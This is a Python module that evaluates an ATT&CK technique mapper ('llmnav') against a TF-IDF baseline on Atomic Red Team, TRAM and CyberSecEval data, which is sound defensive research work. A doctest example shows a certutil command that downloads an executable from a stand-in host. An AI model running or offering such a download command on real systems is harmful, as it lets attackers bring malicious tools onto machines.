"""``llmnav eval``: accuracy of the mapper on the development files, beside a baseline.

Every number is measured in the same run for llmnav and for a baseline: a
character n-gram TF-IDF nearest neighbour trained on the same data (ATT&CK's
text and the training part of the development files). Atomic Red Team and TRAM
rows are scored on the holdout the shipped model never saw; CyberSecEval
prompts are never trained on.

Per data set: exact and parent-technique top-1 accuracy, top-3 recall, tactic
accuracy, intent ROC AUC and the false-positive rate at intent 0.5.

Other labelled command corpora (``commands=[path, ...]``: JSON lines with a
``command`` and a ``technique`` or ``techniques``) are scored whole, beside the
same baseline, to see how the mapper carries over to commands written by other
people for other purposes.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.metrics import roc_auc_score

from llmnav.catalog import Catalog, load_catalog
from llmnav.errors import ConfigError, RecordError, SourceLocation
from llmnav.mapping.base import MapInput, TextKind
from llmnav.mapping.engine import MappingEngine, MappingResult
from llmnav.mapping.model.corpus import DevData, active_id, attack_corpus, intent_corpus
from llmnav.mapping.model.scoring import parent_of

__all__ = [
    "METRICS",
    "Baseline",
    "DatasetScores",
    "LabelledCommands",
    "Prediction",
    "evaluate",
    "read_labelled_commands",
    "reliability",
]

METRICS = (
    ("exact_top1", "exact@1"),
    ("parent_top1", "parent@1"),
    ("top3_recall", "top-3"),
    ("tactic_top1", "tactic@1"),
    ("intent_auc", "intent AUC"),
    ("intent_tpr_at_05", "TPR@0.5"),
    ("intent_fpr_at_05", "FPR@0.5"),
)
"""The metrics of ``DatasetScores`` and their short column headers, in display order."""

ATOMIC_WEIGHT = 1


@dataclass(frozen=True)
class Prediction:
    """What a system said about one input: ranked techniques, ranked tactics, intent."""

    techniques: list[str]
    tactics: list[str]
    intent: float
    confidence: float = 0.0
    """Confidence in the first technique (similarity, for the baseline)."""


@dataclass
class DatasetScores:
    """Metrics of one system on one data set (None where a metric does not apply)."""

    dataset: str
    system: str
    n: int
    exact_top1: float | None = None
    parent_top1: float | None = None
    top3_recall: float | None = None
    tactic_top1: float | None = None
    intent_auc: float | None = None
    intent_fpr_at_05: float | None = None
    intent_tpr_at_05: float | None = None
    reliability: list[tuple[float, float, int]] = field(default_factory=list)
    """(bin floor, exact top-1 accuracy, count) per bin of first-technique confidence."""
    notes: list[str] = field(default_factory=list)


@dataclass
class LabelledCommands:
    """A labelled command corpus: commands with their techniques, and the lines left out."""

    path: Path
    commands: list[str] = field(default_factory=list)
    labels: list[tuple[str, ...]] = field(default_factory=list)
    rejected: list[RecordError] = field(default_factory=list)


def read_labelled_commands(path: Path, catalog: Catalog) -> LabelledCommands:
    """Read JSON lines of ``{"command": ..., "technique": "T1105"}`` (or ``"techniques"``).

    A bad line (not JSON, no command, an id the catalog does not know) is left
    out and kept in ``rejected`` with its file, line and field; revoked ids are
    replaced by the technique that superseded them.

    >>> corpus = read_labelled_commands(Path("lolbas.jsonl"), load_catalog())  # doctest: +SKIP
    >>> corpus.commands[0], corpus.labels[0]  # doctest: +SKIP
    ('certutil.exe -urlcache -split -f http://x/a.exe a.exe', ('T1105',))
    """
    corpus = LabelledCommands(path)
    try:
        lines = path.read_text(encoding="utf-8", errors="replace").splitlines()
    except OSError as exc:
        raise ConfigError(
            f"Cannot read labelled commands: {exc.strerror}", SourceLocation(str(path))
        ) from exc
    for number, line in enumerate(lines, start=1):
        if not line.strip():
            continue
        try:
            command, labels = _labelled_command(line, catalog, SourceLocation(str(path), number))
        except RecordError as bad:
            corpus.rejected.append(bad)
            continue
        corpus.commands.append(command)
        corpus.labels.append(labels)
    return corpus


def _labelled_command(
    line: str, catalog: Catalog, where: SourceLocation
) -> tuple[str, tuple[str, ...]]:
    def bad(message: str, field: str | None = None) -> RecordError:
        return RecordError(message, SourceLocation(where.path, where.line, field))

    try:
        record = json.loads(line)
    except json.JSONDecodeError as exc:
        raise bad(f"Not JSON ({exc.msg})") from exc
    if not isinstance(record, dict):
        raise bad("Not a JSON object")
    command = record.get("command")
    if not isinstance(command, str) or not command.strip():
        raise bad("No command", "command")
    key = "techniques" if "techniques" in record else "technique"
    raw = record.get(key)
    given: list[object] = raw if isinstance(raw, list) else [raw]
    ids = [i.strip() for i in given if isinstance(i, str) and i.strip()]
    if not ids or len(ids) != len(given):
        raise bad("No technique id", key)
    labels = []
    for technique_id in ids:
        found = active_id(catalog, technique_id.upper())
        if found is None:
            raise bad(f"Unknown technique {technique_id!r}", key)
        labels.append(found)
    return command, tuple(dict.fromkeys(labels))


class Baseline:
    """Character n-gram TF-IDF nearest neighbour over labelled texts."""

    def __init__(self, texts: Sequence[str], labels: Sequence[str]) -> None:
        self.vectorizer = TfidfVectorizer(
            analyzer="char_wb", ngram_range=(2, 5), min_df=2, sublinear_tf=True
        )
        self.matrix = self.vectorizer.fit_transform(texts)
        self.labels = np.asarray(labels)

    def neighbours(self, texts: Sequence[str], k: int = 20) -> list[list[tuple[str, float]]]:
        similarity = (self.vectorizer.transform(texts) @ self.matrix.T).toarray()
        order = np.argsort(-similarity, axis=1)[:, :k]
        return [
            [(str(self.labels[j]), float(similarity[i, j])) for j in row]
            for i, row in enumerate(order)
        ]


def _distinct(labels: Sequence[str]) -> list[str]:
    return list(dict.fromkeys(labels))


def evaluate(
    bench: Path,
    *,
    engine: MappingEngine | None = None,
    catalog: Catalog | None = None,
    commands: Sequence[Path] = (),
    progress: Callable[[str], None] | None = None,
) -> list[DatasetScores]:
    """Score llmnav and the baseline on each development file in ``bench`` and on
    each labelled command corpus in ``commands`` (see ``read_labelled_commands``)."""
    catalog = catalog or load_catalog()
    corpora = [read_labelled_commands(path, catalog) for path in commands]
    for corpus in corpora:
        if not corpus.commands:
            raise ConfigError("No usable labelled commands", SourceLocation(str(corpus.path)))
    engine = engine or MappingEngine.default(catalog)
    dev = DevData.load(bench, catalog)
    say = progress or (lambda message: None)
    tactics_of = engine.tactics_of

    say("training the baseline")
    training = attack_corpus(catalog) + dev.training_texts(ATOMIC_WEIGHT)
    technique_nn = Baseline([t for t, _ in training], [y for _, y in training])
    intent_texts, intent_labels = intent_corpus(catalog, dev.atomic, dev.traces)
    intent_nn = Baseline(intent_texts, [str(y) for y in intent_labels])

    def ours(texts: Sequence[str], kind: TextKind) -> list[Prediction]:
        results: list[MappingResult] = []
        for start in range(0, len(texts), 256):
            batch = [MapInput(str(i), t, kind) for i, t in enumerate(texts[start : start + 256])]
            results.extend(engine.map(batch))
        return [
            Prediction(
                [r.technique_id for r in res.techniques],
                [t for t, _ in res.tactics],
                res.intent,
                res.techniques[0].confidence if res.techniques else 0.0,
            )
            for res in results
        ]

    def baseline(texts: Sequence[str]) -> list[Prediction]:
        predictions = []
        for techniques, intents in zip(
            technique_nn.neighbours(texts), intent_nn.neighbours(texts, k=5), strict=True
        ):
            ranked = _distinct([label for label, _ in techniques])
            tactics = _distinct([t for label in ranked for t in tactics_of.get(label, ())])
            weight = sum(s for _, s in intents) or 1.0
            intent = sum(s for label, s in intents if label == "1") / weight
            predictions.append(Prediction(ranked, tactics, intent, techniques[0][1]))
        return predictions

    scores: list[DatasetScores] = []
    command_picks = [i for i, h in enumerate(dev.command_holdout) if h]
    sentence_picks = [i for i, h in enumerate(dev.sentence_holdout) if h]
    sets: list[tuple[str, list[str], list[tuple[str, ...]], TextKind, list[str]]] = [
        (
            "atomic (holdout commands)",
            [dev.commands[i][0] for i in command_picks],
            [(dev.commands[i][1],) for i in command_picks],
            "command",
            [],
        ),
        (
            "tram (holdout sentences)",
            [dev.sentences[i][0] for i in sentence_picks],
            [dev.sentence_labels[i] for i in sentence_picks],
            "sentence",
            [],
        ),
    ]
    for corpus in corpora:
        notes = (
            [f"left out {len(corpus.rejected)} bad lines, first: {corpus.rejected[0]}"]
            if corpus.rejected
            else []
        )
        sets.append(
            (f"{corpus.path.name} (commands)", corpus.commands, corpus.labels, "command", notes)
        )
    for name, texts, truth, kind, notes in sets:
        for system, predict in (("llmnav", lambda t, k=kind: ours(t, k)), ("baseline", baseline)):
            say(f"{name}: {system}")
            scored = _technique_scores(name, system, predict(texts), truth, tactics_of)
            scored.notes.extend(notes)
            scores.append(scored)

    prompts = dev.prompts
    texts = [str(p["text"]) for p in prompts]
    malicious = [p["label"] == "malicious" for p in prompts]
    tactic_labels = [str(p.get("label_tactic_id") or "") for p in prompts]
    allowed = sorted({t for t in tactic_labels if t})
    for system, predict in (("llmnav", lambda t: ours(t, "request")), ("baseline", baseline)):
        say(f"cyberseceval: {system}")
        scores.append(_prompt_scores(system, predict(texts), malicious, tactic_labels, allowed))
    return scores


def _technique_scores(
    dataset: str,
    system: str,
    predictions: Sequence[Prediction],
    truth: Sequence[tuple[str, ...]],
    tactics_of: dict[str, tuple[str, ...]],
) -> DatasetScores:
    exact = parent = top3 = tactic = 0
    for prediction, labels in zip(predictions, truth, strict=True):
        best = prediction.techniques[0] if prediction.techniques else ""
        exact += best in labels
        parent += parent_of(best) in {parent_of(x) for x in labels}
        top3 += any(x in labels for x in prediction.techniques[:3])
        wanted = {t for x in labels for t in tactics_of.get(x, ())}
        tactic += bool(prediction.tactics) and prediction.tactics[0] in wanted
    n = len(truth)
    scores = DatasetScores(dataset, system, n, exact / n, parent / n, top3 / n, tactic / n)
    scores.reliability = reliability(
        [p.confidence for p in predictions],
        [
            bool(p.techniques) and p.techniques[0] in labels
            for p, labels in zip(predictions, truth, strict=True)
        ],
    )
    return scores


def reliability(
    confidence: Sequence[float],
    correct: Sequence[bool],
    floors: Sequence[float] = (0, 0.25, 0.5, 0.75),
) -> list[tuple[float, float, int]]:
    """Accuracy per confidence bin: a calibrated mapper's accuracy rises with confidence.

    >>> reliability([0.1, 0.2, 0.9, 0.8], [False, True, True, True], floors=(0, 0.5))
    [(0, 0.5, 2), (0.5, 1.0, 2)]
    """
    bins = []
    for low, high in zip(floors, [*floors[1:], 1.01], strict=True):
        picked = [ok for c, ok in zip(confidence, correct, strict=True) if low <= c < high]
        if picked:
            bins.append((low, sum(picked) / len(picked), len(picked)))
    return bins


def _prompt_scores(
    system: str,
    predictions: Sequence[Prediction],
    malicious: Sequence[bool],
    tactic_labels: Sequence[str],
    allowed: Sequence[str],
) -> DatasetScores:
    intents = np.asarray([p.intent for p in predictions])
    truth = np.asarray(malicious)
    hits = total = 0
    for prediction, label in zip(predictions, tactic_labels, strict=True):
        if not label:
            continue
        total += 1
        ranked = [t for t in prediction.tactics if t in allowed]
        hits += bool(ranked) and ranked[0] == label
    result = DatasetScores("cyberseceval (prompts)", system, len(predictions))
    result.tactic_top1 = hits / total if total else None
    result.intent_auc = float(roc_auc_score(truth, intents))
    result.intent_fpr_at_05 = float(np.mean(intents[~truth] >= 0.5))
    result.intent_tpr_at_05 = float(np.mean(intents[truth] >= 0.5))
    result.notes.append(f"tactic over the {len(allowed)} labelled tactics, malicious prompts only")
    return result
